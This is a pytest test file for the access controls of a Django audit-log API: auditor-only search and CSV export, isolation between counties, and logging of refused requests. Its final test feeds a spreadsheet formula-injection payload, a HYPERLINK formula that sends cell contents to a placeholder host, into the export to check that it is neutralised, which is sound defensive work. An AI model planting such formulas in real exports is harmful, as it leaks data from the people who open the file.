"""Auditors search and export the trail; every other role and another county's ids get nothing."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

import pytest
from django.conf import settings
from django.test import Client
from django_tenants.utils import schema_context, tenant_context
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from banchengshi.accounts.models import User
from banchengshi.audit.models import AuditRecord
from banchengshi.audit.services import audit_record
from casework.models import Department, StaffRole
from casework.tests.factories import StaffProfileFactory, UserFactory
from conftest import host_of

pytestmark = pytest.mark.django_db


def api_as(county: Any, role: str | None, username: str = "") -> APIClient:
    client = APIClient(HTTP_HOST=host_of(county))
    if role is not None:
        with tenant_context(county):
            user: Any = UserFactory(username=username or f"audit-api-{role}")
            department = Department.objects.get(code="scjgj") if role == StaffRole.DEPARTMENT_HANDLER else None
            StaffProfileFactory(user=user, role=role, department=department)
            client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    return client


def test_an_auditor_searches_reads_and_exports_and_the_export_is_audited(county_a):
    with tenant_context(county_a):
        # Ids of this test's own: other tests (servers, workers) commit records to the same county.
        user_id, case_id = uuid.uuid4().hex[:12], f"c-{uuid.uuid4().hex[:12]}"
        login = audit_record(action="auth.login", actor_label="someone", object_type="user", object_id=user_id)
        audit_record(action="case.accepted", object_type="case", object_id=case_id)
    auditor = api_as(county_a, StaffRole.AUDITOR)
    found = auditor.get("/api/v1/audit/records/", {"action": "auth.", "object_id": user_id}).json()
    assert [r["seq"] for r in found["results"]] == [login.seq]
    assert found["results"][0]["hash"] == login.hash

    detail = auditor.get(f"/api/v1/audit/records/{login.pk}/")
    assert detail.status_code == 200 and detail.json()["action"] == "auth.login"

    export = auditor.get("/api/v1/audit/records/export/", {"action": "case.", "object_id": case_id})
    assert export.status_code == 200 and export["Content-Type"].startswith("text/csv")
    assert "attachment" in export["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
    assert [(row["action"], row["object_id"]) for row in rows] == [("case.accepted", case_id)]
    with tenant_context(county_a):
        exported = AuditRecord.objects.filter(action="audit.exported").latest("seq")
    assert exported.actor_label == "audit-api-auditor" and exported.details == {"action": "case.", "object_id": case_id}


def test_an_offset_beyond_any_list_is_refused_not_a_server_error(county_a):
    # Found by schemathesis (tests/test_api_fuzz.py): offset + limit overflowed PostgreSQL's bigint.
    auditor = api_as(county_a, StaffRole.AUDITOR)
    response = auditor.get("/api/v1/audit/records/", {"offset": "17354558616644206911815680"})
    assert response.status_code == 400 and response.json()["error"]["details"][0]["field"] == "offset"
    assert auditor.get("/api/v1/audit/records/", {"offset": str(2**31 - 1)}).status_code == 200


@pytest.mark.parametrize("role", [r for r in StaffRole.values if r != StaffRole.AUDITOR])
@pytest.mark.parametrize("path", ["records/", "records/export/", "records/1/"])
def test_other_roles_may_not_read_the_trail(county_a, role, path):
    response = api_as(county_a, role).get(f"/api/v1/audit/{path}")
    assert response.status_code == 403
    assert response.json()["error"]["code"] == "audit.permission_denied"


@pytest.mark.parametrize("path", ["records/", "records/export/", "records/1/"])
def test_anonymous_callers_are_refused(county_a, path):
    response = api_as(county_a, None).get(f"/api/v1/audit/{path}")
    assert response.status_code == 401


def test_another_countys_record_ids_do_not_exist_here(county_a, county_b):
    with tenant_context(county_b):
        theirs = audit_record(action="test.only_in_b")
    with tenant_context(county_a):
        ours = audit_record(action="test.only_in_a")
    auditor_a = api_as(county_a, StaffRole.AUDITOR, "auditor-a")
    for missing in (theirs.pk + 100000, "abc", "-1"):
        response = auditor_a.get(f"/api/v1/audit/records/{missing}/")
        assert response.status_code == 404 and response.json()["error"]["code"] == "audit.not_found"
    listed = auditor_a.get("/api/v1/audit/records/", {"action": "test.only_in"}).json()["results"]
    assert [r["action"] for r in listed] == ["test.only_in_a"] and listed[0]["schema"] == county_a.schema_name
    # Ids are per schema: B's id, if it exists in A, is A's own record.
    same = auditor_a.get(f"/api/v1/audit/records/{ours.pk}/").json()
    assert same["schema"] == county_a.schema_name


def test_the_auditors_page_lists_and_links_the_export(county_a, clean_cache):
    with tenant_context(county_a):
        user = UserFactory(username="page-auditor")
        StaffProfileFactory(user=user, role=StaffRole.AUDITOR)
        clerk = UserFactory(username="page-clerk")
        StaffProfileFactory(user=clerk, role=StaffRole.WINDOW_CLERK)
    client = Client(HTTP_HOST=host_of(county_a), REMOTE_ADDR="10.6.0.1")
    client.post("/accounts/login/", {"username": "page-auditor", "password": "S3cure-pass!"})
    page = client.get("/audit/", {"action": "auth."})
    html = page.content.decode()
    assert page.status_code == 200 and "审计日志" in html and "auth.login" in html
    assert "/api/v1/audit/records/export/?action=auth." in html
    other = Client(HTTP_HOST=host_of(county_a), REMOTE_ADDR="10.6.0.2")
    other.post("/accounts/login/", {"username": "page-clerk", "password": "S3cure-pass!"})
    assert other.get("/audit/").status_code == 403


def test_on_the_console_only_audit_administrators_read_the_platform_trail(two_counties):
    """三权分立: the system and security administrators do not read the trail of what they do."""
    with schema_context("public"):
        people = [
            User.objects.create_user(username="audit-root", password="x", is_superuser=True, is_staff=True),
            User.objects.create_user(username="audit-reader", password="x", is_staff=True, platform_role="auditor"),
            User.objects.create_user(username="audit-staff", password="x", is_staff=True, platform_role="operator"),
            User.objects.create_user(username="audit-sec", password="x", is_staff=True, platform_role="security_admin"),
        ]
        tokens = {u.username: Token.objects.create(user=u).key for u in people}
    expected_by_user = {"audit-root": 200, "audit-reader": 200, "audit-staff": 403, "audit-sec": 403}
    for username, expected in expected_by_user.items():
        client = APIClient(HTTP_HOST=settings.COUNTY_DOMAIN_SUFFIX)
        client.credentials(HTTP_AUTHORIZATION=f"Token {tokens[username]}")
        assert client.get("/api/v1/audit/records/").status_code == expected


def test_a_refused_request_is_recorded_for_the_auditors(county_a):
    clerk = api_as(county_a, StaffRole.WINDOW_CLERK, "curious-clerk")
    assert clerk.get("/api/v1/audit/records/?q=13812345678").status_code == 403
    with tenant_context(county_a):
        record = AuditRecord.objects.filter(action="access.denied").order_by("-seq").first()
    assert record is not None and record.outcome == "denied" and record.actor_label == "curious-clerk"
    assert record.details == {"route": "api/v1/audit/records/", "method": "GET", "code": "audit.permission_denied"}
    # Without a signed-in person (401) nothing is recorded here: sign-in failures have their own records.
    before = record.seq
    assert api_as(county_a, None).get("/api/v1/audit/records/").status_code == 401
    with tenant_context(county_a):
        assert not AuditRecord.objects.filter(action="access.denied", seq__gt=before).exists()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_export_writes_text_a_spreadsheet_would_run_as_a_formula_as_text(county_a, start):
    """A label comes from whoever acted (a connected system's name, an operator's label)."""
    auditor = api_as(county_a, StaffRole.AUDITOR)
    label = f'{start}HYPERLINK("http://x/"&A2)'
    with tenant_context(county_a):
        audit_record(action="test.formula", actor_label=label, object_type="case", object_id="f1")
    export = auditor.get("/api/v1/audit/records/export/", {"action": "test.formula"})
    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
    assert rows and all(not value.startswith(start) for row in rows for value in row.values() if value)
